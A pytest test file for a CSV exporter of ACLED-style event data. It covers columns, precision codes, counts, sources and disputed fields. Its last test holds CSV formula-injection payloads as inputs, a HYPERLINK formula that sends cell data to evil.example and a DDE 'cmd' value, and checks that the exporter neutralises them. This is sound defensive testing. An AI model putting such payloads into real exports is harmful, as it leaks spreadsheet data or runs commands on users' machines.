"""The CSV exporter row by row: ACLED-like columns, precision codes, notes, and happenings.

A happening reported by two sources (a news wire and an NGO) carries its sources, their number
and the fields they disagree on; a per-document report carries only its own source.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from khronika.export import get_exporter
from khronika.export.csv import COLUMNS, event_row, format_count, notes, write_csv
from khronika.model import Actor, Claim, Cluster, Count, Event, Evidence, PartialDate, Place

WIRE = "SHYMKENT, 14 March. Police detained the blogger Aigerim Tulegenova outside the akimat."
NGO = "Observers say Aigerim Tulegenova and two others were held in Shymkent on 14 March."
SHYMKENT = Place("Shymkent", "KZ", "Shymkent", 42.3, 69.6, "city", "Shymkent")
MARCH_14 = PartialDate(date(2023, 3, 14), date(2023, 3, 14), "day", "14 March")


def _quote(doc: str, text: str, words: str) -> Evidence:
    start = text.index(words)
    return Evidence.from_text(doc, text, start, start + len(words))


def _detention(**changes: object) -> Event:
    fields: dict[str, object] = {
        "type": "detention",
        "evidence": (_quote("wire.txt", WIRE, "Police detained the blogger Aigerim Tulegenova"),),
        "date": MARCH_14,
        "location": SHYMKENT,
        "actors": (
            Actor("police", "police", "perpetrator"),
            Actor("Aigerim Tulegenova", "person", "target"),
        ),
        "summary": "Police detained the blogger Aigerim Tulegenova in Shymkent.",
    }
    fields.update(changes)
    return Event(**fields)  # type: ignore[arg-type]


def _happening() -> Cluster:
    """The wire's report and the NGO's, consolidated; they disagree on how many were held."""
    evidence = (
        _quote("wire.txt", WIRE, "Police detained the blogger Aigerim Tulegenova"),
        _quote("ngo.txt", NGO, "Aigerim Tulegenova and two others were held"),
    )
    canonical = _detention(
        evidence=evidence,
        counts={"detained": Count(1, 1, "the blogger")},
        id="cl_shymkent_0314",
    )
    claims = (
        Claim("counts.detained", Count(1, 1, "the blogger").to_dict(), "wire.txt", "ev_wire"),
        Claim("counts.detained", Count(3, 3, "and two others").to_dict(), "ngo.txt", "ev_ngo"),
    )
    return Cluster(
        event=canonical,
        reports=("ev_wire", "ev_ngo"),
        claims=claims,
        disputed=("counts.detained",),
    )


def _rows(*records: Event | Cluster) -> list[dict[str, str]]:
    out = io.StringIO()
    written = write_csv(list(records), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert written == len(rows)
    return rows


def test_csv_is_the_registered_csv_exporter() -> None:
    assert get_exporter("csv") is write_csv


def test_csv_without_records_is_a_header_and_zero_rows() -> None:
    out = io.StringIO()
    assert write_csv([], out) == 0
    assert out.getvalue() == ",".join(COLUMNS) + "\n"


def test_csv_ends_lines_with_a_bare_newline() -> None:
    out = io.StringIO()
    write_csv([_detention(), _detention(type="protest", subtype="picket")], out)
    assert "\r" not in out.getvalue()
    assert out.getvalue().count("\n") == 3


def test_csv_reads_records_from_a_generator_once() -> None:
    out = io.StringIO()
    assert write_csv((e for e in [_detention(), _detention(summary="again")]), out) == 2


def test_csv_row_of_a_happening_lists_every_source_and_the_disputed_field() -> None:
    [row] = _rows(_happening())
    assert row["event_id"] == "cl_shymkent_0314"
    assert row["source"] == "wire.txt; ngo.txt"
    assert row["n_sources"] == "2"
    assert row["disputed"] == "counts.detained"
    # The canonical view's figure: one detained, not the NGO's three.
    assert row["notes"].endswith("detained: 1 (the blogger)")


def test_csv_row_of_a_single_report_has_one_source_and_nothing_disputed() -> None:
    [row] = _rows(_detention())
    assert (row["source"], row["n_sources"], row["disputed"]) == ("wire.txt", "1", "")
    assert row["event_id"] == _detention().id


def test_event_row_follows_the_column_order() -> None:
    row = event_row(_detention())
    assert len(row) == len(COLUMNS)
    values = dict(zip(COLUMNS, row, strict=True))
    assert values["event_type"] == "detention"
    assert values["sub_event_type"] == ""
    assert values["status"] == "occurred"
    assert values["actor1"] == "police"
    assert values["actor2"] == "Aigerim Tulegenova"
    assert (values["latitude"], values["longitude"]) == (42.3, 69.6)
    assert values["fatalities"] == 0


@pytest.mark.parametrize(
    ("actors", "actor1", "actor2"),
    [
        (
            (
                Actor("police", "police", "perpetrator"),
                Actor("National Guard", "military", "perpetrator"),
                Actor("Marat Seitkali", "person", "target"),
            ),
            "police; National Guard",
            "Marat Seitkali",
        ),
        (
            (
                Actor("Marat Seitkali", "person", "target"),
                Actor("Dana Ospan", "person", "organiser"),
                Actor("Irina Volkova", "person", "speaker"),
            ),
            "Dana Ospan",
            "Marat Seitkali",
        ),
        (
            (Actor("Marat Seitkali", "person", "target"), Actor("Dana Ospan", "person", "target")),
            "",
            "Marat Seitkali; Dana Ospan",
        ),
        ((), "", ""),
    ],
    ids=["perpetrators", "first-non-target", "only-targets", "nobody"],
)
def test_actor1_is_the_perpetrators_or_the_first_other_actor(
    actors: tuple[Actor, ...], actor1: str, actor2: str
) -> None:
    [row] = _rows(_detention(actors=actors))
    assert (row["actor1"], row["actor2"]) == (actor1, actor2)


@pytest.mark.parametrize(
    ("when", "event_date", "code"),
    [
        (MARCH_14, "2023-03-14", "1"),
        (PartialDate(date(2023, 3, 1), date(2023, 3, 31), "month", "in March"), "2023-03-01", "2"),
        (PartialDate(date(2022, 1, 1), date(2022, 12, 31), "year", "last year"), "2022-01-01", "3"),
        (PartialDate(text="that spring"), "", "3"),
    ],
)
def test_time_precision_uses_acled_codes(when: PartialDate, event_date: str, code: str) -> None:
    [row] = _rows(_detention(date=when))
    assert (row["event_date"], row["time_precision"]) == (event_date, code)


@pytest.mark.parametrize(
    ("place", "location", "code"),
    [
        (Place("Shymkent", "KZ", precision="site", text="outside the akimat"), "Shymkent", "1"),
        (SHYMKENT, "Shymkent", "1"),
        (Place("Turkistan Region", "KZ", precision="region"), "Turkistan Region", "2"),
        (Place(country="KZ", precision="country", text="in the country"), "in the country", "3"),
        (Place(), "", "3"),
    ],
)
def test_geo_precision_uses_acled_codes(place: Place, location: str, code: str) -> None:
    [row] = _rows(_detention(location=place))
    assert (row["location"], row["geo_precision"]) == (location, code)


def test_coordinates_of_zero_are_written_not_dropped() -> None:
    # Null Island is a real coordinate pair; only a missing one is left blank.
    gulf = Place("Gulf of Guinea", None, None, 0.0, 0.0, "site")
    [row] = _rows(_detention(location=gulf))
    assert (row["latitude"], row["longitude"]) == ("0.0", "0.0")
    [blank] = _rows(_detention(location=Place(country="KZ", precision="country")))
    assert (blank["latitude"], blank["longitude"], blank["country"]) == ("", "", "KZ")


def test_fatalities_are_the_lower_bound_of_killed() -> None:
    killed = {"killed": Count(3, 7, "several", "relatives")}
    [row] = _rows(_detention(type="killing", counts=killed))
    assert row["fatalities"] == "3"
    [unknown_low] = _rows(_detention(type="killing", counts={"killed": Count(None, 5, "up to 5")}))
    assert unknown_low["fatalities"] == "0"


@pytest.mark.parametrize(
    ("count", "text"),
    [
        (Count(12, 12, ""), "12"),
        (Count(12, 12, "twelve"), "12 (twelve)"),
        (Count(24, 99, "dozens", "Kazinform"), "24-99 (dozens, per Kazinform)"),
        (Count(71, None, "more than 70"), "71+ (more than 70)"),
        (Count(None, 50, "up to 50"), "up to 50 (up to 50)"),
        (Count(None, None, "many"), "? (many)"),
        (Count(None, None, ""), "?"),
        (Count(3, 3, "", "the lawyer"), "3 (per the lawyer)"),
    ],
)
def test_format_count_says_range_words_and_source(count: Count, text: str) -> None:
    assert format_count(count) == text


def test_notes_join_summary_date_and_counts_in_order() -> None:
    event = _detention(
        date=PartialDate(date(2023, 3, 14), date(2023, 3, 16), "day", "from 14 to 16 March"),
        counts={"detained": Count(5, 5, "five"), "injured": Count(2, 2, "two")},
    )
    assert notes(event) == (
        "Police detained the blogger Aigerim Tulegenova in Shymkent."
        " | date: 2023-03-14 to 2023-03-16 (day)"
        " | detained: 5 (five) | injured: 2 (two)"
    )


@pytest.mark.parametrize(
    ("when", "note"),
    [
        (MARCH_14, ""),
        (PartialDate(date(2023, 3, 1), None, "month", "in March"), "date: 2023-03-01 (month)"),
        (PartialDate(text="on 14 March"), 'date unknown ("on 14 March")'),
        (PartialDate(), "date unknown"),
    ],
)
def test_notes_say_the_date_only_where_one_day_cannot(when: PartialDate, note: str) -> None:
    assert notes(_detention(date=when, summary="")) == note


def test_csv_quotes_commas_quotes_and_keeps_cyrillic() -> None:
    summary = 'Полиция задержала Айгерим Тулегенову, сказал "свидетель".'
    [row] = _rows(_detention(summary=summary, location=Place("Шымкент", "KZ", precision="city")))
    assert row["notes"] == summary
    assert row["location"] == "Шымкент"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(start: str) -> None:
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    event = _detention(
        summary=hostile, actors=(Actor(f"{start}cmd|' /C calc'!A0", "police", "perpetrator"),)
    )

    [row] = _rows(event)

    assert row["notes"] == "'" + hostile
    assert row["actor1"].startswith(f"'{start}cmd")
    assert row["latitude"] == "42.3"  # numbers are left alone
